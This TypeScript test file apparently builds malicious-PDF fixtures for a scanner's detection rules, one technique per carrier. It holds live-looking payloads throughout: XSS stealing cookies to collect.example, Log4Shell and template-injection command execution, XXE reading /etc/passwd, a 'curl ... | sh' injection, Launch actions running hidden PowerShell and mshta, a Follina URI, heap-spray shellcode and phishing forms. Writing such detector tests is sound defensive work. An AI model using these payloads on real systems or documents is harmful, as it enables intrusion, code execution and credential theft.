// Test-only: a fixture per carrier for the techniques whose rules predate the catalogue (launch,
// scripts on open, attachments, callbacks, exploits, lures, evasion). Each is a page of text plus one
// technique through one carrier (fixture-documents.ts). The cluster files (callback-, dos-tamper-,
// lure-fixtures.ts) add their techniques' carriers.
import { deflateSync } from "node:zlib";
import { wrapInXdp, concat, bytes, hexString, text } from "../../../pdf/testing/pdf-builder";
import {
  PE_FILE,
  makeRar5,
  makeZip,
  maliciousPdf,
  pdfWithAttachments,
  wordWebArchive,
} from "../../embedded/testing/embedded-fixtures";
import {
  CVE_2009_0658,
  EXPLOIT_SWF,
  exploitBmp,
  jbig2Image,
  richMedia,
  threeD,
  u3d,
  xfaWithImage,
} from "../../embedded/testing/exploit-fixtures";
import {
  DOT_RANGE_OVERFLOW,
  jpeg,
  OVERFILLED_AC_COUNTS,
  PLAIN_TIFF_TAGS,
  sfntFont,
  tiff,
  xfaImageXml,
} from "../../facts/formats/testing/format-fixtures";
import { buildLurePdf } from "../../pages/testing/lure-pdf";
import { SHELLCODE, SLED } from "../../javascript/testing/script-fixtures";
import {
  annotWithAa,
  built,
  fdfFile,
  formWithButton,
  goToThen,
  linkAnnot,
  plainDocument,
  scriptAction,
  xfaEventScript,
  xfaForm,
  type PlainParts,
} from "./fixture-documents";
import type { TechniqueFixtures } from "./technique-fixtures";

/** A script that runs code later from text (a timer): not form automation, nothing else either. */
const TIMER_SCRIPT = 'app.setTimeOut("app.alert(\\"Loading the document\\")", 500);';
const openAction = (action: string): PlainParts => ({ catalog: `/OpenAction ${action}` });
const pageOpen = (action: string): PlainParts => ({ page: `/AA << /O ${action} >>` });
/** an action object nothing refers to: code in the file that another reader, or a later update, may run */
const unreferenced = (action: string): PlainParts => ({ setup: (b) => void b.add(action) });

/** The plain document with a document information dictionary of `entries`. */
function withInfo(entries: string): Uint8Array {
  const b = plainDocument();
  b.info = b.add(`<< ${entries} >>`);
  return b.build();
}

/** The plain document with an XMP packet whose description holds `properties`, after `doctype`. */
function withXmp(properties: string, doctype = ""): Uint8Array {
  const xmp =
    `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>${doctype}<x:xmpmeta xmlns:x="adobe:ns:meta/">` +
    `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" ` +
    `xmlns:dc="http://purl.org/dc/elements/1.1/">${properties}</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
  return built({ setup: (b) => ({ catalog: `/Metadata ${b.addStream("/Type /Metadata /Subtype /XML", xmp)} 0 R` }) });
}

/** A TrueType font program whose SING table's uniqueName runs past its 28 bytes with no NUL (CVE-2010-2883). */
function singFontDocument(): Uint8Array {
  return built({
    setup(b) {
      const file = b.addStream("", sfntFont("SING", "A".repeat(28)));
      const descriptor = b.add(
        `<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 ${file} 0 R >>`,
      );
      return {
        page: `/Resources << /Font << /F2 ${b.add(`<< /Type /Font /Subtype /TrueType /BaseFont /Fixture /FontDescriptor ${descriptor} 0 R >>`)} 0 R >> >>`,
      };
    },
  });
}

/** A page that is one picture, with one link over part of it. */
function pictureWithLink(url: string): Uint8Array {
  return built({
    setup(b) {
      const img = b.addStream(
        "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8",
        "\x80",
      );
      const content = b.addFlateStream("", "q 612 0 0 792 0 0 cm /Im0 Do Q");
      const annot = b.add(linkAnnot(`<< /S /URI /URI (${url}) >>`, "100 300 500 500"));
      return {
        page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`,
      };
    },
  });
}

/** a PDF body whose \xNN characters are single bytes (latin-1: one byte per char), for strings with non-text bytes */
const latin1Bytes = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));

const LONG_ENCODED = Array.from({ length: 1500 }, (_, i) => "Zm9vYmFy0123456789abcdefXYZ"[i % 27]).join("");

export const CORE_FIXTURES: TechniqueFixtures = {
  // markup and page scripts for a web-based viewer (luigigubello/PayloadsAllThePDFs' shapes, rewritten)
  "web-viewer-script-injection": {
    "uri-markup": () =>
      built({ annots: [linkAnnot(`<< /S /URI /URI (\\">'><details open ontoggle=confirm\\(document.domain\\)>) >>`)] }),
    "annotation-markup": () =>
      built({
        annots: [
          '<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /T (Reviewer\\"><img src=x onerror=alert\\(1\\)>) /Contents (Please check the totals.) >>',
        ],
      }),
    "field-value-markup": () =>
      built({
        setup(b) {
          const field = b.add(
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<svg/onload=fetch\\('https://collect.example/'+document.cookie\\)>) /Rect [72 600 300 620] >>",
          );
          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
        },
      }),
    "info-markup": () =>
      built({
        setup: (b) =>
          void (b.info = b.add("<< /Title (Invoice 2026-041<script>alert\\(1\\)</script>) /Producer (Writer) >>")),
      }),
    "open-action-page-script": () =>
      built(
        openAction(
          scriptAction(
            "document.write('<iframe src=\\'https://collect.example/\\'></iframe>'); var c = document.cookie;",
          ),
        ),
      ),
    "link-page-script": () =>
      built({
        annots: [linkAnnot(scriptAction("window.location = 'https://collect.example/?c=' + document.cookie;"))],
      }),
  },
  // a string padded to the overflow offset, then a handler address and shellcode (Metasploit foxit_title_bof's shape, other bytes)
  "string-overflow-exploit": {
    "info-title": () =>
      built({
        setup: (b) =>
          void (b.info = b.addRaw(
            latin1Bytes(
              `<< /Title (Quarterly report${" ".repeat(526)}ZA\x4bj\x41a\x5c\x5cAaATA\xc3\xb30\xb3${"PYIIIIIIIIIICCCCCC7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJI".repeat(8)}) >>`,
            ),
          )),
      }),
    "annotation-contents": () =>
      built({
        annots: [
          `<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /Contents (${"A".repeat(1200)}\x01\x02\x03\x04\xeb\x06\x90\x90\x12\x45\xfa\x7f) >>`,
        ],
      }),
  },
  // a shop's order link whose address carried the injection: `) /S /JavaScript /JS (...` and the like
  "processor-injection": {
    "info-title-jndi": () => withInfo(`/Title ${hexString("${jndi:ldap://logs.example:1389/a}")} /Author (Accounts)`),
    // the word hidden from filters by lookups that stand for one letter each
    "nested-lookup-jndi": () =>
      withInfo(`/Author ${hexString("${${lower:j}${::-n}di:${lower:L}dap://logs.example/x}")}`),
    "form-value-jndi": () =>
      built({
        setup(b) {
          const field = b.add(
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /V ${hexString("${jndi:rmi://logs.example/o}")} >>`,
          );
          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
        },
      }),
    "xmp-jndi": () => withXmp(`<dc:title><rdf:Alt><rdf:li>\${jndi:dns://logs.example/q}</rdf:li></rdf:Alt></dc:title>`),
    "text4shell-script-lookup": () =>
      withInfo(`/Subject ${hexString("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}")}`),
    "xmp-external-entity": () =>
      withXmp("<dc:title>&xxe;</dc:title>", `<!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`),
    // an e-invoice's XML, which the buyer's payables system parses
    "xml-attachment-external-entity": () =>
      pdfWithAttachments([
        {
          name: "factur-x.xml",
          subtype: "/text#2Fxml",
          data: `<?xml version="1.0"?><!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY e SYSTEM "file:///etc/hosts">]><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"><note>&e;</note></rsm:CrossIndustryInvoice>`,
        },
      ]),
    "xmp-parameter-entity": () =>
      withXmp("", `<!DOCTYPE x:xmpmeta [<!ENTITY % ext SYSTEM "https://logs.example/evil.dtd"> %ext;]>`),
    // for a report generator that renders the title through Jinja2
    "info-title-ssti": () =>
      withInfo(
        `/Title ${hexString("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")}`,
      ),
    "xmp-spring-el": () =>
      withXmp(
        `<dc:creator><rdf:Seq><rdf:li>\${T(java.lang.Runtime).getRuntime().exec('id')}</rdf:li></rdf:Seq></dc:creator>`,
      ),
    // for a conversion script that puts the author into a command line
    "form-value-shell": () =>
      built({
        setup(b) {
          const field = b.add(
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (company) /Rect [72 600 300 620] /V ${hexString("ACME; curl -s https://logs.example/x.sh | sh")} >>`,
          );
          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
        },
      }),
  },
  "pdf-injection": {
    "uri-becomes-javascript": () =>
      built({
        annots: [
          linkAnnot("<< /S /URI /URI (https://shop.example/order?id=) /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        ],
      }),
    "second-link-action": () =>
      built({
        annots: [
          `<< /Type /Annot /Subtype /Link /Rect [72 690 240 704] /Border [0 0 0] /A << /S /URI /URI (https://shop.example/order) >> /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> /Flags 256 >> >>`,
        ],
      }),
    "second-open-action": () =>
      built({
        catalog:
          "/OpenAction << /S /GoTo /D [0 /Fit] >> /OpenAction << /S /JavaScript /JS (this.submitForm\\({cURL: 'https://collect.example/x', cSubmitAs: 'PDF'}\\)) >>",
      }),
  },
  "launch-command": {
    "open-action": () => built(openAction("<< /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>")),
    "link-click": () => built({ annots: [linkAnnot("<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")] }),
    "page-open": () =>
      built(pageOpen("<< /S /Launch /Win << /F (powershell.exe) /P (-nop -w hidden -enc SQBFAFgA) >> >>")),
    "form-field": () =>
      built(formWithButton("<< /S /Launch /Win << /F (mshta.exe) /P (https://evil.example/a.hta) >> >>")),
    "next-chain": () => built(openAction(goToThen("<< /S /Launch /F (payload.exe) >>"))),
  },
  "launch-file": {
    "open-action": () => built(openAction("<< /S /Launch /F (Invoice_0423.docm) >>")),
    "link-click": () => built({ annots: [linkAnnot("<< /S /Launch /F (statement.html) >>")] }),
    "page-open": () => built(pageOpen("<< /S /Launch /F (notes.txt) >>")),
    "annotation-aa": () => built({ annots: [annotWithAa("/E << /S /Launch /F (photo.jpg) >>")] }),
    unreferenced: () => built(unreferenced("<< /Type /Action /S /Launch /F (update.zip) >>")),
    // a link whose URI is a program on the reader's machine, or a command line (PayloadsAllThePDFs' payload3 and payload4)
    "uri-file-url": () => built({ annots: [linkAnnot("<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>")] }),
    "uri-command-line": () => built({ annots: [linkAnnot("<< /S /URI /URI (START C:/Users/Public/invoice.hta) >>")] }),
    // Follina (CVE-2022-30190): the diagnostic tool runs the PowerShell its arguments carry
    "uri-ms-msdt": () =>
      built({
        annots: [
          linkAnnot(
            `<< /S /URI /URI ${hexString("ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_BrowseForFile=$(Invoke-Expression($(Invoke-Expression('[System.Text.Encoding]'))))i/../../../../../../../../../../../../../../Windows/System32/mpsigstub.exe\"")} >>`,
          ),
        ],
      }),
    "uri-office-remote-document": () =>
      built({
        annots: [linkAnnot(`<< /S /URI /URI ${hexString("ms-word:ofe|u|https://docs.example/Invoice_0423.docm")} >>`)],
      }),
    "uri-ms-appinstaller": () =>
      built({
        annots: [
          linkAnnot(
            `<< /S /URI /URI ${hexString("ms-appinstaller:?source=https://updates.example/Adobe_PDF.appinstaller")} >>`,
          ),
        ],
      }),
    // a PDF opened or converted by LibreOffice: the macro runs, or the environment travels in the address
    "uri-libreoffice-script": () =>
      built({
        annots: [
          linkAnnot(
            `<< /S /URI /URI ${hexString("vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=application")} >>`,
          ),
        ],
      }),
    "uri-libreoffice-expand": () =>
      built(openAction(`<< /S /URI /URI ${hexString("vnd.sun.star.expand:https://collect.example/c?h=${HOME}")} >>`)),
  },
  "script-on-open": {
    "open-action": () => built(openAction(scriptAction(TIMER_SCRIPT))),
    "names-tree": () =>
      built({
        setup: (b) => ({
          catalog: `/Names << /JavaScript << /Names [(init) ${b.add(scriptAction(TIMER_SCRIPT))} 0 R] >> >>`,
        }),
      }),
    "page-open-aa": () => built(pageOpen(scriptAction(TIMER_SCRIPT))),
    "annotation-pv-aa": () => built({ annots: [annotWithAa(`/PV ${scriptAction(TIMER_SCRIPT)}`)] }),
    "xfa-initialize": () => built(xfaForm(xfaEventScript("initialize", TIMER_SCRIPT))),
    "next-chain": () => built(openAction(goToThen(scriptAction(TIMER_SCRIPT)))),
    // run as the FDF file is opened, before its values are imported into the form it names
    "fdf-import-script": () => fdfFile(`/F (claim.pdf) /JavaScript << /Before ${hexString(TIMER_SCRIPT)} >>`),
  },
  "attachment-launch": {
    "open-action-script": () =>
      pdfWithAttachments([{ name: "readme.exe", data: PE_FILE }], {
        openActionJs: 'this.exportDataObject({ cName: "readme.exe", nLaunch: 2 });',
      }),
    "link-click-script": () =>
      built({ annots: [linkAnnot(scriptAction('this.exportDataObject({ cName: "invoice.pdf", nLaunch: 2 });'))] }),
  },
  "script-file-drop": {
    // the CVE-2023-27363 proof of concept's shape: an .hta into the Startup folder, on open
    "open-action-script": () =>
      built(
        openAction(
          scriptAction(
            'this.exportXFAData({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.hta", bXDP: false });',
          ),
        ),
      ),
    "link-click-script": () =>
      built({ annots: [linkAnnot(scriptAction('this.saveAs("/C/Users/Public/Downloads/invoice.pdf.exe");'))] }),
    "xfa-docready-script": () =>
      built(
        xfaForm(
          xfaEventScript("docReady", 'event.target.exportAsText(true, null, "C:\\\\ProgramData\\\\update.bat");'),
        ),
      ),
    // a path spelled in pieces across variables, as droppers do
    "path-in-variables": () =>
      built(
        openAction(
          scriptAction(
            'var dir = "C:\\Users\\Public\\Start Menu\\Programs\\Startup\\"; var target = dir + "sync" + ".js"; this.saveAs({ cPath: target, bPromptToOverwrite: false });',
          ),
        ),
      ),
  },
  "executable-attachment": {
    "embedded-files-tree": () => pdfWithAttachments([{ name: "setup.exe", data: PE_FILE }]),
    "file-attachment-annotation": () => pdfWithAttachments([{ name: "update.exe", data: PE_FILE, via: "annotation" }]),
    "zip-archive": () =>
      pdfWithAttachments([{ name: "documents.zip", data: makeZip([{ name: "Invoice.pdf.exe", data: PE_FILE }]) }]),
    // RAR, not zip, gets a program past filters that open zips: its names are in its block headers
    "rar-archive": () =>
      pdfWithAttachments([{ name: "scan_0042.rar", data: makeRar5([{ name: "scan_0042.pdf.scr", data: PE_FILE }]) }]),
    "disguised-name": () => pdfWithAttachments([{ name: "scan_0042.jpg", data: PE_FILE }]),
    // nothing refers to them: a loader carves them out, or an archiver opens the appended ZIP
    "appended-after-eof": () =>
      plainDocument().build({
        suffix: `\n${text(makeZip([{ name: "Invoice_0042.js", data: 'WScript.CreateObject("WScript.Shell").Run("calc");' }]))}`,
      }),
    "before-header": () => plainDocument().build({ prefix: text(PE_FILE) }),
    "between-objects": () => {
      const b = plainDocument();
      b.addJunk(concat([bytes("\n"), PE_FILE, bytes("\n")]));
      return b.build();
    },
    "plain-stream": () => built({ setup: (b) => void b.addFlateStream("", PE_FILE) }),
  },
  "office-polyglot": {
    // Metasploit's maldoc_in_pdf_polyglot: the web archive is the data of a stream nothing refers to
    "unfiltered-stream": () => built({ setup: (b) => void b.addStream("", wordWebArchive({ macros: true })) }),
    "appended-after-eof": () => plainDocument().build({ suffix: `\n${wordWebArchive({ macros: true })}` }),
    "no-macros": () => built({ setup: (b) => void b.addStream("", wordWebArchive({ macros: false })) }),
  },
  "nested-malicious-pdf": {
    "embedded-files-tree": () =>
      pdfWithAttachments([{ name: "invoice.pdf", data: maliciousPdf(), subtype: "/application#2Fpdf" }]),
  },
  "decompression-bomb": {
    "flate-bomb": () =>
      built({ setup: (b) => void b.addStream("/Filter /FlateDecode", deflateSync(new Uint8Array(48 * 1024 * 1024))) }),
    "nested-flate-bomb": () =>
      built({
        setup: (b) =>
          void b.addStream(
            "/Filter [/FlateDecode /FlateDecode]",
            deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024))),
          ),
      }),
  },
  "resource-exhaustion-script": {
    // (endless-loop, alert-loop and string-doubling: dos-tamper-fixtures.ts)
    // scripts that each loop until stopped: together they spend the document's whole script budget
    "endless-loops": () =>
      built({
        setup: (b) => ({
          catalog: `/Names << /JavaScript << /Names [${Array.from({ length: 6 }, (_, i) => `(s${i}) ${b.add(scriptAction(`var n${i} = 0; while (true) { n${i}++; }`))} 0 R`).join(" ")}] >> >>`,
        }),
      }),
  },
  "acrobat-api-exploit": {
    "open-action-script": () =>
      built(
        openAction(
          scriptAction(
            'var msg = unescape("%u0c0c%u0c0c"); while (msg.length < 0x4000) msg += msg; Collab.collectEmailInfo({ subj: "", msg: msg });',
          ),
        ),
      ),
  },
  "heap-spray-shellcode": {
    "open-action-script": () =>
      built(
        openAction(
          scriptAction(
            `var sc = unescape("${SLED}${SHELLCODE}"); var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s + sc;`,
          ),
        ),
      ),
  },
  "reader-reentrancy-trigger": {
    // a Format action set by script that deletes a page, set off while the reader calculates a field
    "open-action-script": () =>
      built(
        openAction(
          scriptAction(
            'var f = this.getField("total"); f.setAction("Format", "onFormat()"); function onFormat() { this.deletePages(0); } this.getField("qty").setFocus();',
          ),
        ),
      ),
  },
  "typed-array-memory-exploit": {
    // the grooming and the read/write primitive of a use-after-free exploit, without its trigger
    "open-action-script": () =>
      built(
        openAction(
          scriptAction(
            "var bufs = new Array(0x1000); for (var i = 0; i < bufs.length; i++) { bufs[i] = new ArrayBuffer(0xffe8); var dv = new DataView(bufs[i]); dv.setUint32(0x4, 0x5d00006c, true); }" +
              " for (var j = 0; j < bufs.length; j++) if (bufs[j].byteLength == -1) { var rw = new DataView(bufs[j]); }",
          ),
        ),
      ),
  },
  "font-exploit": {
    "truetype-sing": singFontDocument,
    "font-matrix": () =>
      built({
        page: "/Resources << /Font << /F2 << /Type /Font /Subtype /Type1 /BaseFont /Fixture /FontMatrix [1 0 0 1 0 (1\\); alert\\(1\\)//)] >> >> >>",
      }),
  },
  "calculator-function-injection": {
    // an image's Separation tint transform whose program is a call (malicious-pdf test40)
    "tint-transform-program": () =>
      built({
        setup(b) {
          const fn = b.addStream("/FunctionType 4 /Domain [0 1] /Range [0 1]", '{ fetch("https://track.example/ps") }');
          const image = b.addStream(
            `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace [/Separation /All /DeviceGray ${fn} 0 R]`,
            "\x80",
          );
          return { page: `/Resources << /XObject << /Im0 ${image} 0 R >> >>` };
        },
      }),
    // a string where a bound belongs: compiled into the function's source (CVE-2018-5158)
    "shading-function-range": () =>
      built({
        setup(b) {
          const fn = b.addStream("/FunctionType 4 /Domain [0 1] /Range [0 (1\\); alert\\(1\\)//)]", "{ dup }");
          return {
            page: `/Resources << /Shading << /Sh0 << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 0] /Function ${fn} 0 R >> >> >>`,
          };
        },
      }),
  },
  "image-codec-exploit": {
    "xfa-tiff": () => built(xfaForm(xfaImageXml(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })))),
    "xfa-bmp": () => xfaWithImage(exploitBmp()),
    "jbig2-stream": () => jbig2Image(CVE_2009_0658),
    "predictor-colors": () =>
      built({
        setup: (b) =>
          void b.addFlateStream(
            "/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>",
            "\x00AAAA",
          ),
      }),
    // a page drawing a JPEG whose AC table gives 84 one-bit codes (Metasploit coolpdf_image_stream_bof's table)
    "dct-huffman-table": () =>
      built({
        setup(b) {
          const img = b.addStream(
            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
            jpeg({ ac: OVERFILLED_AC_COUNTS }),
          );
          const content = b.addStream("", "q 200 0 0 200 72 500 cm /Im0 Do Q");
          return { page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R` };
        },
      }),
  },
  "media-exploit": {
    "u3d-stream": () => threeD("U3D", u3d({ fileSize: 2612, declSize: 36 })),
    "flash-stream": () => richMedia(EXPLOIT_SWF, "/Type /EmbeddedFile"),
  },
  "signature-match": {
    // an executable XOR-encoded with one byte inside a stream: the bundled pdf_embedded_pe_xor rule
    "embedded-pe": () =>
      built({
        setup: (b) =>
          void b.addStream(
            "",
            Uint8Array.from(concat([new Uint8Array(64), PE_FILE]), (x) => x ^ 0x5a),
          ),
      }),
  },
  "credential-phishing-link": {
    "image-page-link": () => pictureWithLink("https://secure-doc-view.000webhostapp.com/adobe/index.php"),
    "text-link": () =>
      built({ annots: [linkAnnot("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")] }),
    // a link over the whole page that imports data from a web address (PDF101's data-link test)
    "page-covering-remote-import": () =>
      built({
        annots: [
          linkAnnot("<< /S /ImportData /F << /FS /URL /F (https://collect.example/data.fdf) >> >>", "0 0 612 792"),
        ],
      }),
    // a button over the whole page whose script opens the page: any click is the link (PortSwigger's PDFium button)
    "page-covering-button": () =>
      built({
        setup(b) {
          const field = b.add(
            `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (view) /Rect [0 0 612 792] /A ${scriptAction('app.launchURL("https://secure-doc-view.example.net/open", true);')} >>`,
          );
          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
        },
      }),
  },
  "malware-download-link": {
    "image-page-link": () => pictureWithLink("https://www.dropbox.com/s/k3x9/Invoice_0423.zip?dl=1"),
  },
  "credential-harvesting-form": {
    "submit-action": () =>
      built({
        setup(b) {
          const password = b.add(
            "<< /Type /Annot /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>",
          );
          const submit = b.add(
            "<< /Type /Annot /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>",
          );
          return {
            catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`,
            page: `/Annots [${password} 0 R ${submit} 0 R]`,
          };
        },
      }),
    "submit-script": () =>
      built({
        setup(b) {
          const password = b.add("<< /Type /Annot /FT /Tx /T (Passwort) /Rect [72 560 300 580] /Subtype /Widget >>");
          const submit = b.add(
            `<< /Type /Annot /FT /Btn /Ff 65536 /T (ok) /Rect [72 500 200 530] /Subtype /Widget /A ${scriptAction('this.submitForm({cURL: "https://collect.example.net/p", cSubmitAs: "HTML"});')} >>`,
          );
          return {
            catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>`,
            page: `/Annots [${password} 0 R ${submit} 0 R]`,
          };
        },
      }),
  },
  "qr-code-lure": {
    "rendered-page": () =>
      buildLurePdf({
        pages: [
          {
            lines: ["Your mailbox is almost full.", "Scan the code to keep receiving mail."],
            qr: { text: "https://mail-quota.example.top/verify?u=j.doe" },
          },
        ],
      }),
  },
  "javascript-obfuscation": {
    "open-action-script": () =>
      built(openAction(scriptAction('var p = unescape("%61%70%70%2e%61%6c%65%72%74%28%31%29"); eval(p);'))),
    "unreferenced-script": () =>
      built(
        unreferenced(
          scriptAction(
            "var k = String.fromCharCode; var c = [97,112,112,46,97,108,101,114,116,40,49,41]; var s = ''; for (var i = 0; i < c.length; i++) s += k(c[i] ^ 0); eval(s);",
          ),
        ),
      ),
  },
  "hidden-names": {
    "escaped-name": () => built(openAction("<< /S /J#61vaScript /JS (app.alert\\(1\\);) >>")),
    "stray-keyword": () =>
      built({
        setup(b) {
          b.addJunk("\x00\x00junk"); // `junk5 0 obj`: the header is no token of its own
          return { catalog: `/OpenAction ${b.add(scriptAction("app.alert(1);"))} 0 R` };
        },
      }),
  },
  "payload-in-metadata": {
    "info-entry": () =>
      built({ setup: (b) => void (b.info = b.add(`<< /Title (Report) /Subject (${LONG_ENCODED}) >>`)) }),
    "annotation-text": () =>
      built({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }),
  },
  "encryption-hiding": {
    // RC4 with keys that do not open it: the /OpenAction script is ciphertext to every scanner
    "empty-password-rc4": () => {
      const b = plainDocument({ catalog: "/OpenAction << /S /JavaScript /JS <9a3b17c4e0> >>" });
      const enc = b.add(
        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`,
      );
      return b.build({
        trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
      });
    },
  },
  "malformed-structure": {
    "junk-before-header": () => concat([bytes("GIF89a\x01\x00\x01\x00\x00\x00\x00;\n"), built()]),
    "xdp-package": () => wrapInXdp(built()),
  },
};
